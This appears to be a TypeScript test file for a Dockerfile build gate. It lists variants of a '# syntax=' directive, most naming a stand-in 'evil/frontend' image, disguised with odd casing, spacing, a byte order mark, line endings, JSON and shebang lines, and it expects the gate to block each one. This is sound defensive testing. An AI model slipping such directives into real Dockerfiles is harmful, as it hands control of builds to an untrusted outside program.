import { defineAttack } from '../attack.ts';

const rest = 'FROM alpine:3.19\nRUN true\n';

export default defineAttack({
  title: 'A frontend from elsewhere',
  tries:
    'Names another program to read the Dockerfile, which then builds what it likes, with a network of its own choice; in every form that some builder accepts.',
  stop: 'gate',
  ways: () => ({
    plain: { Dockerfile: `# syntax=docker/dockerfile:1\n${rest}` },
    'behind a byte order mark': { Dockerfile: `\ufeff# syntax=docker/dockerfile:1\n${rest}` },
    'in capitals': { Dockerfile: `# SYNTAX=evil/frontend\n${rest}` },
    'without a blank': { Dockerfile: `#syntax=evil/frontend\n${rest}` },
    'with blanks all around': { Dockerfile: `  #  syntax  =  evil/frontend\n${rest}` },
    'after the escape directive': { Dockerfile: `# escape=\\\n# syntax=evil/frontend\n${rest}` },
    'with Windows line ends': { Dockerfile: `# syntax=evil/frontend\r\n${rest}` },
    'as a comment of slashes': { Dockerfile: `// syntax=evil/frontend\n${rest}` },
    'as JSON': { Dockerfile: `{"syntax": "evil/frontend"}\n${rest}` },
    'after a line for a shell': { Dockerfile: `#!/usr/bin/env -S docker build\n// syntax=evil/frontend\n${rest}` },
  }),
  reads: /run another program|not an instruction/,
});
